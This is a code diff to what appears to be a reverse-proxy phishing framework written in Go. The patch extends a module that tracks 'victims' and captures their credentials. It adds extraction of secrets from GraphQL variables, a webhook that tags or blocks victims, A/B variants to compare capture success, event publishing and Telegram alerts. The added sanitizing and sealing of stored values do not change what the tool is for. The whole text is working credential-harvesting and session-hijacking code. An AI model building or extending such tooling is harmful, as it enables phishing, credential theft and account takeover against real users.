@@ -4,7 +4,6 @@ import (
 	// "encoding/json"
 	"encoding/json"
 	"fmt"
-	"net"
 	"net/http"
 	"net/url"
 	"path"
@@ -67,6 +66,16 @@ type Tracker struct {
 	LandingHeader  string
 	ValidatorRegex *regexp.Regexp
 	TrackerLength  int
+
+	// Sanitizer turns the captured credentials into what is stored and notified
+	Sanitizer CredentialSanitizer
+
+	// enricher calls the enrichment webhook for the new victims, nil if disabled
+	enricher *enricher
+	// variants assigns the victims to the response variants, nil if none
+	variants *variants
+	// pinLanguage sends the language recorded on the first contact of the victims with all their requests
+	pinLanguage bool
 }
 
 // Trace object structure
@@ -155,6 +164,11 @@ func Load(s *session.Session) (m *Tracker, err error) {
 		return
 	}
 
+	m.Sanitizer = NewCredentialSanitizer(s)
+	m.enricher = newEnricher(s)
+	m.variants = newVariants(s)
+	m.pinLanguage = s.Config.Tracking.PinLanguage
+
 	config := s.Config.Tracking.Trace
 	m.Identifier = config.Identifier
 
@@ -376,7 +390,7 @@ func (module *Tracker) TrackRequest(request *http.Request) (t *Trace) {
 
 	if v.ID == "" {
 		// Tracking IP
-		IPSource := GetRealAddr(request).String()
+		IPSource := module.Session.AnonymizeIP(module.Session.ClientIP(request))
 		newVictim := &db.Victim{
 			ID:           t.ID,
 			IP:           IPSource,
@@ -384,11 +398,47 @@ func (module *Tracker) TrackRequest(request *http.Request) (t *Trace) {
 			RequestCount: 1,
 			FirstSeen:    time.Now().UTC().Format("2006-01-02 15:04:05"),
 			LastSeen:     time.Now().UTC().Format("2006-01-02 15:04:05"),
+			Language:     request.Header.Get("Accept-Language"),
 		}
 
 		module.PushVictim(newVictim)
+		data := map[string]string{"ip": IPSource, "ua": request.UserAgent()}
+
+		// The enrichment webhook tags, blocks or routes the victim before its first request is forwarded
+		if module.enricher != nil {
+			enrichment, err := module.enricher.Enrich(newVictim, request)
+			if err != nil {
+				module.Warning("[%s] enrichment: %s", t.ID, err)
+			}
+			if len(enrichment.Tags) > 0 {
+				data["tags"] = strings.Join(enrichment.Tags, ",")
+			}
+			if enrichment.Profile != "" {
+				data["profile"] = enrichment.Profile
+			}
+			if enrichment.Block {
+				data["blocked"] = "true"
+			}
+		}
+
+		// The variant of the victim is recorded to compare the results of the variants
+		if variant := module.Variant(t.ID); variant != "" {
+			data["variant"] = variant
+			module.variants.record(variant, t.ID, false)
+		}
+
+		session.Publish(session.Event{
+			Type:   session.EventVictim,
+			Victim: t.ID,
+			Data:   data,
+		})
 		module.Info("[+] victim: %s \n\t%s\n\t%s", tui.Bold(tui.Red(t.ID)), tui.Yellow(IPSource), tui.Yellow(request.UserAgent()))
+		if tags := data["tags"]; tags != "" || data["profile"] != "" || data["blocked"] != "" {
+			module.Info("[%s] enrichment: tags=%s profile=%s blocked=%t", t.ID, tags, data["profile"], data["blocked"] != "")
+		}
 		// module.Debug("[%s] %s://%s%s", request.Method, request.URL.Scheme, request.Host, request.URL.Path)
+	} else if module.pinLanguage {
+		pinLanguage(request, v)
 	}
 
 	if module.Type == LandingPath && isTrackedPath {
@@ -496,23 +546,19 @@ func (t *Trace) ExtractCredentials(body string, request *http.Request) (found bo
 							}
 						}
 
-						creds := &db.VictimCredential{
-							Key:   p.Label,
-							Value: value,
-							Time:  time.Now().UTC().Format("2006-01-02 15:04:05"),
-						}
-
-						err := creds.Store(victim.ID)
-						if err != nil {
+						if err := t.storeCredential(victim.ID, p.Label, value, request.URL.Path); err != nil {
 							return false, err
 						}
+					}
+				}
+			}
 
-						message := fmt.Sprintf("[%s] [+] credentials: %s", t.ID, tui.Bold(creds.Key))
-						// t.Debug("[+] Pattern: %v", p)
-						t.Info("%s=%s (%s)", message, tui.Bold(tui.Red(creds.Value)), request.URL.Path)
-						if tel := telegram.Self(t.Session); tel != nil {
-							tel.Send(message)
-						}
+			// GraphQL operations, whose secrets are found in their variables
+			if rules := t.Session.Config.Tracking.Secrets.GraphQL; len(rules) > 0 {
+				for _, secret := range graphQLSecrets(rules, graphQLOperations(body, request)) {
+					found = true
+					if err := t.storeCredential(victim.ID, secret.Label, secret.Value, request.URL.Path); err != nil {
+						return false, err
 					}
 				}
 			}
@@ -526,6 +572,48 @@ func (t *Trace) ExtractCredentials(body string, request *http.Request) (found bo
 	return found, nil
 }
 
+// storeCredential stores a credential of the victim, then notifies it
+func (t *Trace) storeCredential(victimID, key, value, path string) error {
+	// The credentials are sanitized as they are captured, their values never reach the storage
+	if t.Sanitizer != nil {
+		value = t.Sanitizer.Sanitize(key, value)
+	}
+
+	creds := &db.VictimCredential{
+		Key:   key,
+		Value: value,
+		Time:  time.Now().UTC().Format("2006-01-02 15:04:05"),
+	}
+
+	// With a storage public key, the value is logged and notified sealed as it is stored
+	if err := creds.Seal(); err != nil {
+		return err
+	}
+
+	if err := creds.Store(victimID); err != nil {
+		return err
+	}
+
+	data := map[string]string{"key": creds.Key, "value": creds.Value, "path": path}
+	if variant := t.Variant(victimID); variant != "" {
+		data["variant"] = variant
+		t.variants.record(variant, victimID, true)
+	}
+
+	session.Publish(session.Event{
+		Type:   session.EventCredentials,
+		Victim: t.ID,
+		Data:   data,
+	})
+
+	message := fmt.Sprintf("[%s] [+] credentials: %s", t.ID, tui.Bold(creds.Key))
+	t.Info("%s=%s (%s)", message, tui.Bold(tui.Red(creds.Value)), path)
+	if tel := telegram.Self(t.Session); tel != nil {
+		tel.Send(message)
+	}
+	return nil
+}
+
 // ExtractCredentialsFromResponseHeaders extracts tracking credentials from response headers.
 // It returns true if credentials are found, false otherwise.
 func (t *Trace) ExtractCredentialsFromResponseHeaders(response *http.Response) (found bool, err error) {
@@ -561,22 +649,10 @@ func (t *Trace) ExtractCredentialsFromResponseHeaders(response *http.Response) (
 						value := InnerSubstring(header, p.Start, p.End)
 						if value != "" {
 
-							creds := &db.VictimCredential{
-								Key:   p.Label,
-								Value: value,
-								Time:  time.Now().UTC().Format("2006-01-02 15:04:05"),
-							}
-
-							if err = creds.Store(victim.ID); err != nil {
+							if err = t.storeCredential(victim.ID, p.Label, value, response.Request.URL.Path); err != nil {
 								return false, err
 							}
-
 							found = true
-							message := fmt.Sprintf("[%s] [+] credentials: %s", t.ID, tui.Bold(creds.Key))
-							t.Info("%s=%s", message, tui.Bold(tui.Red(creds.Value)))
-							if tel := telegram.Self(t.Session); tel != nil {
-								tel.Send(message)
-							}
 						}
 					}
 				}
@@ -636,19 +712,3 @@ func (t *Trace) HijackSession(request *http.Request) (err error) {
 
 	return
 }
-
-// GetRealAddr returns the IP address from an http.Request
-func GetRealAddr(r *http.Request) net.IP {
-	if forwarded := r.Header.Get("X-Forwarded-For"); forwarded != "" {
-		if parts := strings.Split(forwarded, ","); len(parts) > 0 {
-			// Intermediate nodes append, so first is the original client
-			return net.ParseIP(strings.TrimSpace(parts[0]))
-		}
-	}
-
-	addr, _, err := net.SplitHostPort(r.RemoteAddr)
-	if err == nil {
-		return net.ParseIP(addr)
-	}
-	return net.ParseIP(r.RemoteAddr)
-}